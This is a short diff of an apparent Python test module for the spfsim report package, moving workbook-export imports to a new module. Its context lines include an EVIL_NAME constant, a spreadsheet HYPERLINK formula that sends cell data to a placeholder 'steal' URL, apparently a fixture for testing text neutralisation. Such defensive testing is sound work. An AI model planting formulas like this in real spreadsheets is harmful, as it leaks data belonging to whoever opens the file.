@@ -19,7 +19,6 @@ from spfsim.errors import OutputExistsError
 from spfsim.finance.measures import sustainability_variables
 from spfsim.indicators import GENDER_GAPS, fiscal_space_variables
 from spfsim.report.background import start_workers
-from spfsim.report.excel import build_workbook, neutralise_text, sheet_name_for, write_workbook
 from spfsim.report.io import atomic_write, write_netcdf
 from spfsim.report.outputs import _render_figures, prepare_figures, write_outputs
 from spfsim.report.plots import (
@@ -31,6 +30,7 @@ from spfsim.report.plots import (
     reserve_ratio_methods_figure,
     write_figures,
 )
+from spfsim.report.workbook import build_workbook, neutralise_text, sheet_name_for, write_workbook
 
 PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
 EVIL_NAME = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click")'
